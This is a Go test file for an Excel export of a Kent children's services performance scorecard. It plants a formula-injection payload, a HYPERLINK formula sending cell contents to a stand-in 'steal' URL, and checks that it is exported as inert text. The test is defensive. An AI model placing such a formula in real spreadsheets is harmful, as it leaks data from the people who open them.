package export

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"scorecard/app"
	"scorecard/app/cohort"
	"scorecard/app/disclosure"
	"scorecard/app/trend"
	"scorecard/assets"
	"scorecard/assets/synth"
)

// produced fixes the "date produced" so exports are reproducible.
var produced = time.Date(2026, time.November, 24, 9, 0, 0, 0, time.UTC)

// The hostile text planted in the demo history: a commentary that Excel
// would run as a formula, and an indicator name that would be a negative
// number's formula.
const (
	hostileComment = `=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")`
	hostileName    = "-1 children"
)

// demoHistory is the embedded demo as the store would hold it after
// `scorecard demo`: the model's dataset with its previous-year outturns,
// one import with the demo workbook's SHA-256, and the hostile text.
func demoHistory(t testing.TB) (*app.History, *synth.Model) {
	t.Helper()
	m := synth.Demo()
	d := m.Dataset
	d.Indicators = slices.Clone(d.Indicators)
	d.Comments = slices.Clone(d.Comments)
	for _, o := range m.Outturns {
		d.Benchmarks = append(d.Benchmarks, app.Benchmark{Ref: o.Ref, Period: o.Period, Group: app.OutturnGroup, Value: o.Value, Status: o.Status})
	}
	d.Indicators[1].Name = hostileName
	d.Comments = append(d.Comments, app.Comment{Ref: d.Indicators[0].Ref, Area: app.Kent, Period: m.Latest(), Text: hostileComment})
	h := app.NewHistory()
	h.Apply(&d, "I0001")
	sum := sha256.Sum256(assets.Demo)
	h.Imports = []app.Import{{ID: "I0001", Source: "demo.xlsx", Kind: "demo", SHA256: hex.EncodeToString(sum[:]),
		Time: time.Date(2026, time.November, 20, 8, 30, 0, 0, time.UTC)}}
	return h, m
}

// export writes h with opt into a temporary folder and opens the result.
func export(t testing.TB, h *app.History, opt Options) (*excelize.File, Summary) {
	t.Helper()
	opt.Produced, opt.AppVersion = produced, "1.0-test"
	path := filepath.Join(t.TempDir(), "out.xlsx")
	sum, err := Write(context.Background(), path, h, opt)
	if err != nil {
		t.Fatalf("Write: %v", err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("open export: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	auditDisclosure(t, f, h, opt)
	return f, sum
}

// sheetRow finds the row of the Scorecard whose column A holds ref.
func sheetRow(t testing.TB, f *excelize.File, sheet, ref string) int {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) > 0 && r[0] == ref {
			return i + 1
		}
	}
	t.Fatalf("%s: no row for %s", sheet, ref)
	return 0
}

// headerCol finds a column of the Scorecard's header row by its heading.
func headerCol(t testing.TB, f *excelize.File, name string) int {
	t.Helper()
	rows, _ := f.GetRows(ScorecardSheet)
	for i, h := range rows[headerRow-1] {
		if h == name {
			return i + 1
		}
	}
	t.Fatalf("no %q column in %q", name, rows[headerRow-1])
	return 0
}

// number reads a cell that must hold a number, not text.
func numberAt(t testing.TB, f *excelize.File, sheet, ref string) float64 {
	t.Helper()
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
	if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Fatalf("%s!%s holds %q as type %v, not a number", sheet, ref, raw, typ)
	}
	v, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		t.Fatalf("%s!%s holds %q, not a number", sheet, ref, raw)
	}
	return v
}

// format returns a cell's number format and fill colour.
func format(t testing.TB, f *excelize.File, sheet, ref string) (string, string) {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	numFmt, fill := "", ""
	if st.CustomNumFmt != nil {
		numFmt = *st.CustomNumFmt
	}
	if len(st.Fill.Color) > 0 {
		fill = strings.TrimPrefix(strings.ToUpper(st.Fill.Color[0]), "FF")
		if len(st.Fill.Color[0]) == 6 {
			fill = strings.ToUpper(st.Fill.Color[0])
		}
	}
	return numFmt, fill
}

func TestScorecardFiguresAreNumbersAsAnalysed(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{})
	if want := []string{ScorecardSheet, TrendSheet, DistrictsSheet, BreakdownsSheet, GuidanceSheet, ProvenanceSheet, DataSheet, DefinitionsSheet, TargetsSheet}; !slices.Equal(f.GetSheetList(), want) || !slices.Equal(sum.Sheets, want) {
		t.Fatalf("sheets %q, summary %q; want %q", f.GetSheetList(), sum.Sheets, want)
	}
	if sum.Period != m.Latest() || sum.Indicators != len(h.Indicators()) {
		t.Errorf("summary %+v: want period %v and %d indicators", sum, m.Latest(), len(h.Indicators()))
	}
	title, _ := f.GetCellValue(ScorecardSheet, "A1")
	if !strings.Contains(title, periodName(m.Latest())) || !strings.Contains(title, "Kent") {
		t.Errorf("title %q does not name Kent and %s", title, periodName(m.Latest()))
	}
	if a2, _ := f.GetCellValue(ScorecardSheet, "A2"); a2 != "All children: no cohorts excluded" {
		t.Errorf("A2 = %q", a2)
	}
	// Print setup: landscape, two pages wide, header rows and names
	// repeated; panes frozen below the header and right of the names.
	var titles string
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm.Print_Titles" && dn.Scope == ScorecardSheet {
			titles = dn.RefersTo
		}
	}
	if want := fmt.Sprintf("'%s'!$A:$B,'%s'!$%d:$%d", ScorecardSheet, ScorecardSheet, headerRow-1, headerRow); titles != want {
		t.Errorf("print titles %q, want %q", titles, want)
	}
	if pl, err := f.GetPageLayout(ScorecardSheet); err != nil || *pl.Orientation != "landscape" || *pl.FitToWidth != 2 {
		t.Errorf("page layout %+v (%v): want landscape, two pages wide", pl, err)
	}
	if panes, err := f.GetPanes(ScorecardSheet); err != nil || !panes.Freeze || panes.TopLeftCell != cell(3, headerRow+1) {
		t.Errorf("panes %+v (%v): want frozen at %s", panes, err, cell(3, headerRow+1))
	}
	monthCol := headerCol(t, f, m.Latest().Label())
	ragCol, dotCol := headerCol(t, f, "RAG"), headerCol(t, f, "DoT")
	checked, rated := 0, 0
	for _, ind := range h.Indicators() {
		pts := trend.Analyse(h, app.SeriesKey{Ref: ind.Ref, Area: app.Kent}, trend.Options{Until: m.Latest()})
		if len(pts) == 0 || pts[len(pts)-1].Period != m.Latest() {
			continue
		}
		p := pts[len(pts)-1]
		r := sheetRow(t, f, ScorecardSheet, ind.Ref)
		ref := cell(monthCol, r)
		if p.Value == nil {
			got, _ := f.GetCellValue(ScorecardSheet, ref)
			if got != string(p.Status) {
				t.Errorf("%s %s: %q, want status %q", ind.Ref, ref, got, p.Status)
			}
			continue
		}
		got := numberAt(t, f, ScorecardSheet, ref)
		want := cellNumber(ind, *p.Value)
		if math.Abs(got-want) > 1e-9 {
			t.Errorf("%s %s = %v, want %v", ind.Ref, ref, got, want)
		}
		nf, _ := format(t, f, ScorecardSheet, ref)
		if ind.Unit == app.Percent && ind.Decimals == 1 && nf != "0.0%" {
			t.Errorf("%s %s: format %q, want 0.0%%", ind.Ref, ref, nf)
		}
		checked++
		rag, _ := f.GetCellValue(ScorecardSheet, cell(ragCol, r))
		if rag != string(p.RAG) {
			t.Errorf("%s RAG %q, want %q", ind.Ref, rag, p.RAG)
		}
		if p.RAG != app.NoRAG {
			rated++
			wantFill, _ := ragLook(p.RAG)
			if _, fill := format(t, f, ScorecardSheet, cell(ragCol, r)); fill != wantFill {
				t.Errorf("%s RAG fill %q, want %q", ind.Ref, fill, wantFill)
			}
		}
		words, _ := f.GetCellValue(ScorecardSheet, cell(headerCol(t, f, "Trend and SPC"), r))
		for _, w := range []string{p.Trend.Direction.String(), strings.ToLower(strings.TrimSuffix(p.VariationReading, ".")), strings.ToLower(strings.TrimSuffix(p.AssuranceReading, "."))} {
			if !strings.Contains(strings.ToLower(words), w) {
				t.Errorf("%s: trend and SPC %q does not say %q", ind.Ref, words, w)
			}
		}
		if strings.ContainsFunc(words, func(r rune) bool { return r == utf8.RuneError || !unicode.IsPrint(r) }) {
			t.Errorf("%s: trend and SPC %q holds unprintable characters", ind.Ref, words)
		}
		// The Making Data Count icons in words, tinted as MDC colours them.
		if strings.Contains(words, "SPC: ") || strings.Contains(words, "special cause") {
			t.Errorf("%s: trend and SPC %q uses the SPC terms, not Making Data Count's words", ind.Ref, words)
		}
		if _, fill := format(t, f, ScorecardSheet, cell(headerCol(t, f, "Trend and SPC"), r)); p.Variation != trend.NoVariation && fill != iconFills[p.Variation.Colour()] {
			t.Errorf("%s: variation %s filled %q, want %q", ind.Ref, p.Variation, fill, iconFills[p.Variation.Colour()])
		}
		dot, _ := f.GetCellValue(ScorecardSheet, cell(dotCol, r))
		if p.DoT != app.NoDoT && !strings.HasSuffix(dot, string(p.DoT)) {
			t.Errorf("%s DoT %q, want %q", ind.Ref, dot, p.DoT)
		}
	}
	if checked < 20 || rated < 10 {
		t.Errorf("checked %d figures and %d ratings: the demo has more", checked, rated)
	}
}

// TestTrendSheetCannotExcludeOnce: a Trend row whose every month cannot
// exclude the cohort for one reason says so once, in a merged cell with
// the reason, as the Scorecard sheet does, not in each of 24 cells.
func TestTrendSheetCannotExcludeOnce(t *testing.T) {
	h, m := demoHistory(t)
	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	ex, _ := cohort.Exclude(h, []app.Cohort{app.UASC})
	rows, err := f.GetRows(TrendSheet)
	if err != nil {
		t.Fatal(err)
	}
	whole := 0
	for _, ind := range h.Indicators() {
		k := app.SeriesKey{Ref: ind.Ref, Area: app.Kent}
		reasons := map[string]bool{}
		n := 0
		for i := range trendMonths {
			o, ok := ex.Observation(k, m.Latest().Add(-i))
			if !ok {
				continue
			}
			n++
			if o.Status != app.CannotExclude {
				reasons["figure"] = true
				continue
			}
			reasons[o.Raw] = true
		}
		if n < 2 || len(reasons) != 1 || reasons["figure"] {
			continue
		}
		whole++
		row := sheetRow(t, f, TrendSheet, ind.Ref)
		said := 0
		for _, v := range rows[row-1] {
			if strings.HasPrefix(v, string(app.CannotExclude)) {
				said++
			}
		}
		if said != 1 {
			t.Errorf("%s: the Trend row says cannot exclude %d times, want once", ind.Ref, said)
		}
		merged, _ := f.GetMergeCells(TrendSheet)
		found := false
		for _, mc := range merged {
			if _, r, _ := excelize.CellNameToCoordinates(mc.GetStartAxis()); r == row && strings.HasPrefix(mc.GetCellValue(), string(app.CannotExclude)) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: the Trend row's cannot exclude is not one merged cell", ind.Ref)
		}
	}
	if whole == 0 {
		t.Fatal("no indicator cannot exclude the cohort in every month: the check proves nothing")
	}
}

func TestExclusionsTitleAndFigures(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	if a2, _ := f.GetCellValue(ScorecardSheet, "A2"); a2 != "Excluding unaccompanied asylum-seeking children (UASC)" {
		t.Errorf("A2 = %q", a2)
	}
	ex, _ := cohort.Exclude(h, []app.Cohort{app.UASC})
	monthCol := headerCol(t, f, m.Latest().Label())
	differ, cannot := 0, 0
	for _, ind := range h.Indicators() {
		k := app.SeriesKey{Ref: ind.Ref, Area: app.Kent}
		o, ok := ex.Observation(k, m.Latest())
		if !ok {
			continue
		}
		ref := cell(monthCol, sheetRow(t, f, ScorecardSheet, ind.Ref))
		if o.Status == app.CannotExclude {
			// Said once per row, with the reason, not in every month.
			cannot++
			row := sheetRow(t, f, ScorecardSheet, ind.Ref)
			// GetCellValue gives a merged range's text in each of its
			// cells; the sheet's own rows hold it once.
			rows, _ := f.GetRows(ScorecardSheet)
			said := 0
			for c := monthCol - 11; c <= monthCol; c++ {
				v := ""
				if r := rows[row-1]; c-1 < len(r) {
					v = r[c-1]
				}
				if strings.HasPrefix(v, "cannot exclude") {
					said++
					if !strings.Contains(v, o.Raw) {
						t.Errorf("%s %s = %q, want the reason %q", ind.Ref, cell(c, row), v, o.Raw)
					}
					if !hasComment(f, ScorecardSheet, cell(c, row), o.Raw) {
						t.Errorf("%s %s: no note giving the reason %q", ind.Ref, cell(c, row), o.Raw)
					}
				}
			}
			if said != 1 {
				t.Errorf("%s: the row says cannot exclude %d times, want once", ind.Ref, said)
			}
			continue
		}
		if o.Value == nil {
			continue
		}
		got := numberAt(t, f, ScorecardSheet, ref)
		if want := cellNumber(ind, *o.Value); math.Abs(got-want) > 1e-9 {
			t.Errorf("%s excluding UASC = %v, want %v", ind.Ref, got, want)
		}
		if all, _ := h.Observation(k, m.Latest()); all.Value != nil && *all.Value != *o.Value {
			differ++
		}
	}
	if differ == 0 {
		t.Error("no figure differs from all children's: exclusion was not applied")
	}
	if cannot != sum.CannotExclude && sum.CannotExclude < cannot {
		t.Errorf("summary counts %d cannot-exclude figures, the sheet has at least %d", sum.CannotExclude, cannot)
	}
	// The Data sheet labels the recomputed figures "Excluding UASC".
	rows, _ := f.GetRows(DataSheet)
	labels := map[string]int{}
	for _, r := range rows[2:] {
		labels[r[3]]++
	}
	for _, l := range []string{"All", "Excluding UASC", "UASC"} {
		if labels[l] == 0 {
			t.Errorf("Data sheet has no %q rows: %v", l, labels)
		}
	}
}

// hasComment reports whether a cell has a note containing text.
func hasComment(f *excelize.File, sheet, ref, text string) bool {
	cs, _ := f.GetComments(sheet)
	for _, c := range cs {
		if c.Cell != ref {
			continue
		}
		all := c.Text
		for _, p := range c.Paragraph {
			all += p.Text
		}
		if strings.Contains(all, text) {
			return true
		}
	}
	return false
}

func TestImportedTextIsNeverAFormula(t *testing.T) {
	h, _ := demoHistory(t)
	f, _ := export(t, h, Options{})
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rows {
			for j, v := range r {
				ref := cell(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, ref, formula)
				}
				if v == hostileComment || v == hostileName {
					found[v] = true
					if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s holds %q as type %v, not a string", sheet, ref, v, typ)
					}
				}
			}
		}
	}
	if !found[hostileComment] || !found[hostileName] {
		t.Errorf("the planted comment and name were not exported as text: %v", found)
	}
}

// contractPeriod matches a month or quarter as the contract writes it.
var contractPeriod = regexp.MustCompile(`^\d{4}-(\d\d|Q\d)$`)

func TestProvenanceAndGuidance(t *testing.T) {
	h, _ := demoHistory(t)
	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	rows, _ := f.GetRows(ProvenanceSheet)
	var text strings.Builder
	for _, r := range rows {
		text.WriteString(strings.Join(r, "|") + "\n")
	}
	for _, want := range []string{h.Imports[0].SHA256, "demo.xlsx", "2026-11-20 08:30:00", "Scorecard 1.0-test",
		"Excluding unaccompanied asylum-seeking children (UASC)", "Produced|24 November 2026"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("Provenance does not say %q:\n%s", want, text.String())
		}
	}
	// The period is as people read it ("Oct-26"), not as --period takes it.
	for _, r := range rows {
		if len(r) > 1 && r[0] == "Period" && (r[1] == "" || contractPeriod.MatchString(r[1])) {
			t.Errorf("Provenance gives the period as %q", r[1])
		}
	}
	if props, err := f.GetDocProps(); err != nil || props.Category != app.ExportCategory || props.Subject != exclusionWords([]app.Cohort{app.UASC}) {
		t.Errorf("document properties %+v (%v): want Category %q and the exclusions as Subject", props, err, app.ExportCategory)
	}
	rows, _ = f.GetRows(GuidanceSheet)
	text.Reset()
	for _, r := range rows {
		text.WriteString(strings.Join(r, "|") + "\n")
	}
	for _, want := range []string{"Making Data Count", "GREEN when the figure meets the target", "R12M|rolling 12 months",
		"c|suppressed to protect confidentiality", "snapshot date"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("Guidance does not say %q", want)
		}
	}
}

func TestDataSheetIsTidy(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{})
	rows, _ := f.GetRows(DataSheet)
	if rows[0][0] != notPrinted {
		t.Errorf("Data A1 %q, want the notice %q", rows[0], notPrinted)
	}
	rows = rows[1:]
	if !slices.Equal(rows[0], DataHeader) {
		t.Fatalf("Data header %q, want %q", rows[0], DataHeader)
	}
	if sum.DataRows != len(rows)-1 {
		t.Errorf("summary says %d data rows, the sheet has %d", sum.DataRows, len(rows)-1)
	}
	standIns := 0
	for _, o := range m.Dataset.Observations {
		if o.StandIn {
			standIns++
		}
	}
	if standIns == 0 {
		t.Error("the demo has no previous-year outturn standing in for a month")
	}
	// A stand-in is a row too, marked as one: leaving it out lost it when
	// the export was imported again.
	if want := len(m.Dataset.Observations); sum.DataRows != want {
		t.Errorf("%d data rows, want every one of the demo's %d figures, %d of them standing in", sum.DataRows, want, standIns)
	}
	marked := 0
	for i, r := range rows[1:] {
		r = append(r, make([]string, 8-len(r))...)
		p, err := app.ParsePeriod(r[1])
		if err != nil {
			t.Fatalf("row %d: %v", i+2, err)
		}
		k := app.SeriesKey{Ref: r[0], Area: app.Area(r[2])}
		switch r[3] {
		case "All":
		case "UASC":
			k.Split = app.Only(app.UASC)
		case "Excluding UASC":
			k.Split = app.Excluding(app.UASC)
		default:
			t.Fatalf("row %d: cohort %q", i+2, r[3])
		}
		o, ok := h.Observation(k, p)
		if !ok {
			t.Fatalf("row %d: %q is not in the history", i+2, r)
		}
		if o.Value == nil {
			if r[6] != "" || r[7] != string(o.Status) {
				t.Errorf("row %d: %q, want status %q", i+2, r, o.Status)
			}
			continue
		}
		if v, err := strconv.ParseFloat(r[6], 64); err != nil || math.Abs(v-*o.Value) > 1e-9 {
			t.Errorf("row %d: value %q, want %v", i+2, r[6], *o.Value)
		}
		want := ""
		if o.StandIn {
			want = app.StandInMark
			marked++
		}
		if r[7] != want {
			t.Errorf("row %d: status %q, want %q", i+2, r[7], want)
		}
	}
	if marked != standIns {
		t.Errorf("%d rows marked %q, want the demo's %d stand-ins", marked, app.StandInMark, standIns)
	}
}

func TestFailedExportLeavesNothing(t *testing.T) {
	h, _ := demoHistory(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "scorecard.xlsx")
	if err := os.WriteFile(path, []byte("last month's"), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	calls := 0
	_, err := Write(ctx, path, h, Options{Progress: func(done, total int) {
		calls++
		if done > total {
			t.Errorf("progress %d of %d", done, total)
		}
		if calls == 40 {
			cancel()
		}
	}})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled export returned %v", err)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("folder holds %d files after a cancelled export, want only the old one", len(entries))
	}
	if b, _ := os.ReadFile(path); string(b) != "last month's" {
		t.Error("a cancelled export changed the existing file")
	}
	if _, err := Write(context.Background(), filepath.Join(dir, "no such folder", "x.xlsx"), h, Options{}); err == nil {
		t.Error("export into a missing folder succeeded")
	}
}

func TestTrendSheetHasSparklinesAndCharts(t *testing.T) {
	h, _ := demoHistory(t)
	_, sum := export(t, h, Options{})
	if sum.Sparklines != sum.Indicators {
		t.Errorf("%d sparklines for %d indicators", sum.Sparklines, sum.Indicators)
	}
	if sum.Flagged == 0 || sum.Charts != sum.Flagged {
		t.Errorf("%d charts for %d flagged indicators", sum.Charts, sum.Flagged)
	}
}

// TestSuppressionIsConsistentAcrossSheets checks that every figure
// package disclosure withholds shows as c on every sheet that shows it:
// the scorecard and trend for Kent, the districts table, and the Data
// sheet, which also holds no value for it.
func TestSuppressionIsConsistentAcrossSheets(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{Suppress: 5})
	sup, n := disclosure.Suppress(h, 5)
	if n == 0 || sum.Suppressed < n {
		t.Fatalf("disclosure suppressed %d figures, the export says %d", n, sum.Suppressed)
	}
	data, _ := f.GetRows(DataSheet)
	dataRow := map[string][]string{}
	for _, r := range data[2:] {
		r = append(r, make([]string, 8-len(r))...)
		dataRow[strings.Join(r[:4], "|")] = r
	}
	districts, _ := f.GetRows(DistrictsSheet)
	var areaCol map[app.Area]int
	for _, r := range districts {
		if len(r) > 3 && r[0] == "Ref" {
			areaCol = map[app.Area]int{}
			for i, a := range r {
				areaCol[app.Area(a)] = i + 1
			}
			break
		}
	}
	latest := m.Latest()
	monthCol := headerCol(t, f, latest.Label())
	checked := map[string]int{}
	for _, k := range sup.Keys() {
		for _, o := range sup.Series(k) {
			was, _ := h.Observation(k, o.Period)
			if o.Status != app.Suppressed || was.Status == app.Suppressed {
				continue
			}
			key := strings.Join([]string{o.Ref, o.Period.String(), string(o.Area), cohortLabel(k.Split)}, "|")
			if r := dataRow[key]; r == nil || r[7] != "c" || r[4]+r[5]+r[6] != "" {
				t.Errorf("Data sheet row for %s: %q, want status c and no figures", key, r)
			}
			checked["data"]++
			if o.Period != latest || k.Split != app.All {
				continue
			}
			r := sheetRow(t, f, DistrictsSheet, o.Ref)
			if got, _ := f.GetCellValue(DistrictsSheet, cell(areaCol[o.Area], r)); got != "c" {
				t.Errorf("Districts %s %s: %q, want c", o.Ref, o.Area, got)
			}
			checked["districts"]++
			if o.Area != app.Kent {
				continue
			}
			for _, sheet := range []string{ScorecardSheet, TrendSheet} {
				col := monthCol
				if sheet == TrendSheet {
					col = 4 + trendMonths
				}
				if got, _ := f.GetCellValue(sheet, cell(col, sheetRow(t, f, sheet, o.Ref))); got != "c" {
					t.Errorf("%s %s: %q, want c", sheet, o.Ref, got)
				}
			}
			checked["kent"]++
		}
	}
	if checked["data"] == 0 || checked["districts"] == 0 {
		t.Errorf("checked %v: the demo's small district figures should be suppressed", checked)
	}
	t.Logf("checked %v", checked)
}

// TestBreakdownsForAllAndExcluding checks the demographic breakdowns:
// the period's latest tables for all children and without UASC, with
// small counts withheld when suppressing.
func TestBreakdownsForAllAndExcluding(t *testing.T) {
	h, m := demoHistory(t)
	p := m.Latest()
	excl := app.Excluding(app.UASC)
	bd := func(split app.Split, period app.Period, cat string, n, total float64) app.Breakdown {
		return app.Breakdown{Measure: "Children in care", Period: period, Area: app.Kent, Split: split,
			Dimension: "gender", Category: cat, Count: n, Total: total}
	}
	h.Apply(&app.Dataset{Breakdowns: []app.Breakdown{
		bd(app.All, p.Add(-1), "Male", 1000, 1800), // an older table: not shown
		bd(app.All, p, "Male", 1131, 1896), bd(app.All, p, "Female", 762, 1896), bd(app.All, p, "Other", 3, 1896),
		bd(excl, p, "Male", 712, 1468), bd(excl, p, "Female", 753, 1468), bd(excl, p, "Other", 3, 1468),
	}}, "I0003")
	for _, tc := range []struct {
		suppress int
		want     [][]string // Children, Category, Count, Total
	}{
		{0, [][]string{
			{"All children", "Male", "1,131", "1,896"}, {"All children", "Female", "762", "1,896"}, {"All children", "Other", "3", "1,896"},
			{"Excluding UASC", "Male", "712", "1,468"}, {"Excluding UASC", "Female", "753", "1,468"}, {"Excluding UASC", "Other", "3", "1,468"},
		}},
		// The 3 is withheld, and so is the next smallest category of its
		// table, or it could be worked out from the total.
		{5, [][]string{
			{"All children", "Male", "1,131", "1,896"}, {"All children", "Female", "c", "1,896"}, {"All children", "Other", "c", "1,896"},
			{"Excluding UASC", "Male", "c", "1,468"}, {"Excluding UASC", "Female", "753", "1,468"}, {"Excluding UASC", "Other", "c", "1,468"},
		}},
	} {
		f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}, Suppress: tc.suppress})
		rows, _ := f.GetRows(BreakdownsSheet)
		var got [][]string
		for _, r := range rows {
			if len(r) >= 8 && r[0] == "Children in care" {
				if r[1] != p.Label() {
					t.Errorf("suppress %d: a table for %s, want only %s's", tc.suppress, r[1], p.Label())
				}
				got = append(got, []string{r[3], r[5], r[6], r[7]})
			}
		}
		if !slices.EqualFunc(got, tc.want, slices.Equal) {
			t.Errorf("suppress %d: breakdowns\n%q\nwant\n%q", tc.suppress, got, tc.want)
		}
	}
}

// TestEarlierPeriodAndDistrictArea exports a district's scorecard for an
// earlier month: the title, last month column and figures are that
// month's and area's, and the Data sheet holds nothing later.
func TestEarlierPeriodAndDistrictArea(t *testing.T) {
	h, m := demoHistory(t)
	p := m.Latest().Add(-3)
	f, sum := export(t, h, Options{Period: p, Area: "Ashford", Months: 6})
	if title, _ := f.GetCellValue(ScorecardSheet, "A1"); title != "Ashford performance scorecard: "+periodName(p) {
		t.Errorf("title %q", title)
	}
	rows, _ := f.GetRows(ScorecardSheet)
	head := rows[headerRow-1]
	if i := slices.Index(head, p.Label()); i < 0 || slices.Index(head, p.Add(-5).Label()) != i-5 || slices.Contains(head, p.Add(1).Label()) {
		t.Errorf("header %q: want the 6 months to %s", head, p.Label())
	}
	ind := h.Indicators()[2]
	o, _ := h.Observation(app.SeriesKey{Ref: ind.Ref, Area: "Ashford"}, p)
	if got := numberAt(t, f, ScorecardSheet, cell(headerCol(t, f, p.Label()), sheetRow(t, f, ScorecardSheet, ind.Ref))); math.Abs(got-cellNumber(ind, *o.Value)) > 1e-9 {
		t.Errorf("%s Ashford %s = %v, want %v", ind.Ref, p, got, cellNumber(ind, *o.Value))
	}
	data, _ := f.GetRows(DataSheet)
	for _, r := range data[2:] {
		if q, _ := app.ParsePeriod(r[1]); q.Compare(p) > 0 {
			t.Fatalf("Data sheet holds %q, after the export's month %s", r, p)
		}
	}
	if sum.DataRows >= len(h.Keys())*24 {
		t.Errorf("%d data rows: the months after %s were not left out", sum.DataRows, p)
	}
}

// TestProgressReachesItsTotal checks the progress callback counts up to
// exactly its total, with and without exclusions.
func TestProgressReachesItsTotal(t *testing.T) {
	h, _ := demoHistory(t)
	for _, cs := range [][]app.Cohort{nil, {app.UASC}} {
		last, total, calls := 0, 0, 0
		_, err := Write(context.Background(), filepath.Join(t.TempDir(), "p.xlsx"), h, Options{Exclude: cs, Progress: func(done, n int) {
			if done != last+1 || (total != 0 && n != total) {
				t.Errorf("progress %d of %d after %d of %d", done, n, last, total)
			}
			last, total = done, n
			calls++
		}})
		if err != nil {
			t.Fatal(err)
		}
		if calls == 0 || last != total {
			t.Errorf("excluding %v: progress ended at %d of %d", cs, last, total)
		}
	}
}

// TestSmallHistories exports hand-built histories at the edges: none at
// all, a single month, and a quarterly indicator shown in the month its
// quarter ends.
func TestSmallHistories(t *testing.T) {
	if _, err := Write(context.Background(), filepath.Join(t.TempDir(), "x.xlsx"), app.NewHistory(), Options{}); !errors.Is(err, ErrNoData) {
		t.Errorf("empty history: %v, want ErrNoData", err)
	}
	h := app.NewHistory()
	oct := app.MonthOf(2026, time.October)
	h.Apply(&app.Dataset{
		Indicators: []app.Indicator{
			{Ref: "M1", Name: "Monthly count", Unit: app.Number, Section: "One"},
			{Ref: "Q1", Name: "Quarterly percentage", Unit: app.Percent, Decimals: 1, Polarity: app.HigherBetter, Section: "One"},
			{Ref: "Y1", Name: "Yearly percentage", Unit: app.Percent, Decimals: 1, Polarity: app.HigherBetter, Section: "One"},
		},
		Observations: []app.Observation{
			{Ref: "M1", Area: app.Kent, Period: oct, Value: app.Float(12)},
			{Ref: "Q1", Area: app.Kent, Period: app.Period{Kind: app.Quarter, Year: 2026, N: 2}, Value: app.Float(61.2)},
			{Ref: "Q1", Area: app.Kent, Period: app.Period{Kind: app.Quarter, Year: 2026, N: 3}, Value: app.Float(63.7)},
			{Ref: "Y1", Area: app.Kent, Period: app.Period{Kind: app.AcademicYear, Year: 2025}, Value: app.Float(39.5)},
		},
		Targets: []app.Target{{Ref: "Q1", Year: app.Period{Kind: app.FinancialYear, Year: 2026}, Target: app.Float(65), Floor: app.Float(60)}},
	}, "I0001")
	f, sum := export(t, h, Options{})
	if sum.Indicators != 3 || sum.Period != oct {
		t.Fatalf("summary %+v", sum)
	}
	r := sheetRow(t, f, ScorecardSheet, "Q1")
	if got := numberAt(t, f, ScorecardSheet, cell(headerCol(t, f, "Sep-26"), r)); math.Abs(got-0.637) > 1e-12 {
		t.Errorf("Q1 in Sep-26, the month its quarter ends: %v, want 0.637", got)
	}
	if got, _ := f.GetCellValue(ScorecardSheet, cell(headerCol(t, f, "Oct-26"), r)); got != "" {
		t.Errorf("Q1 in Oct-26: %q, want nothing", got)
	}
	// A quarter's or a year's figure in a month's column says whose it is.
	for _, c := range []struct{ ref, month, note string }{
		{"Q1", "Sep-26", "The figure for Jul-Sep 2026 (quarter), shown in the month it ends."},
		{"Y1", "Aug-26", "The figure for 2025/26 AY (academic year), shown in the month it ends."},
	} {
		if at := cell(headerCol(t, f, c.month), sheetRow(t, f, ScorecardSheet, c.ref)); !hasComment(f, ScorecardSheet, at, c.note) {
			t.Errorf("%s in %s (%s) has no note %q", c.ref, c.month, at, c.note)
		}
	}
	if at := cell(headerCol(t, f, "Oct-26"), sheetRow(t, f, ScorecardSheet, "M1")); hasComment(f, ScorecardSheet, at, "shown in the month it ends") {
		t.Errorf("M1's own month %s is noted as another period's", at)
	}
	if got := numberAt(t, f, ScorecardSheet, cell(headerCol(t, f, "Oct-26"), sheetRow(t, f, ScorecardSheet, "M1"))); got != 12 {
		t.Errorf("M1 in Oct-26: %v, want 12", got)
	}
	for _, p := range []app.Period{oct.Add(1), app.MonthOf(1999, time.January)} {
		if _, err := Write(context.Background(), filepath.Join(t.TempDir(), "x.xlsx"), h, Options{Period: p}); !errors.Is(err, ErrNoData) {
			t.Errorf("a month outside the history (%s): %v, want ErrNoData", p, err)
		}
	}
}

// TestWriteErrorsNamePathOnce checks that each error Write returns names
// the output file once, never the temporary file, and says what failed,
// so that the command line can print it as it is.
func TestWriteErrorsNamePathOnce(t *testing.T) {
